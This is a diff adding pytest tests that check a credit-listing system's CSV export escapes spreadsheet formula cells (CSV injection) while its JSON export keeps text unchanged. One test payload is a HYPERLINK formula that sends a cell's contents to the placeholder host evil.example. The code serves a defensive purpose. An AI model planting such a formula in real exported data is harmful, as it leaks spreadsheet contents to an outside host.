@@ -75,3 +75,26 @@ def test_other_county_exports_nothing(client, make_user, inspector, supervisor, 
     assert json.loads(body(client.get("/credit/export.json"))) == []
     client.force_login(make_user("cd-export-credit", Role.TASKFORCE, "510100"))
     assert "成都失信示例" in body(client.get("/credit/export.csv"))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_start_a_formula(client, inspector, supervisor, clock, start):
+    """Text a unit or handler wrote is exported as text: a spreadsheet must not evaluate it."""
+    listing = listed(clock, inspector, supervisor)
+    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
+    CreditListing.objects.filter(pk=listing.pk).update(unit_name=payload, facts=payload)
+    client.force_login(inspector)
+    text = body(client.get("/credit/export.csv"))
+    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
+    assert row["单位名称"] == "'" + payload and row["失信行为事实"] == "'" + payload
+    assert row["列入日期"] == listing.listed_on.isoformat()  # plain values stay as they were
+    # JSON is data, not a sheet: the platform receives the text unchanged.
+    records = json.loads(body(client.get("/credit/export.json")))
+    assert records[0]["unit_name"] == payload
+
+
+def test_spreadsheet_safe_leaves_ordinary_cells():
+    assert exports.spreadsheet_safe("成都-建筑公司") == "成都-建筑公司"
+    assert exports.spreadsheet_safe(12) == 12
+    assert exports.spreadsheet_safe("") == ""
+    assert exports.spreadsheet_safe("-5") == "'-5"
